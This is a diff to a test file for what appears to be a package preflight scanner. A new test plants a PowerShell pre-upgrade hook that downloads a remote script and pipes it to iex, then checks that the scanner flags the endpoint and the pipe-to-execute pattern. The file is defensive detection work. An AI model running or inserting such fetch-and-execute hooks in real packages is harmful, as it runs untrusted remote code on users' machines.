@@ -7,6 +7,7 @@ from __future__ import annotations
 
 from preflight_kit import codes_at, findings, package, run
 
+from shipgate.findings import Severity
 from shipgate.preflight.windows import parse_windows
 
 _EP = "preflight.external_endpoint"
@@ -313,3 +314,13 @@ def test_a_powershell_file_nested_past_the_bound_says_it_was_read_in_part() -> N
     found = run(package({"deep.ps1": "(" * 5000 + "1" + ")" * 5000 + "\n"}))
     skipped = [f for f in found if f.code == "preflight.file_skipped"]
     assert len(skipped) == 1 and "nested over 200 levels" in skipped[0].message
+
+
+def test_a_powershell_hook_is_read_as_powershell_not_as_shell() -> None:
+    contents = package(
+        {"hooks/upgrade.ps1": "iwr https://get.vendor.io/i.ps1 | iex\n"}, hooks={"pre_upgrade": "hooks/upgrade.ps1"}
+    )
+    assert sorted((f.code, f.evidence.get("line")) for f in run(contents) if f.severity > Severity.INFO) == [
+        (_EP, 1),
+        (_PIPE, 1),
+    ]
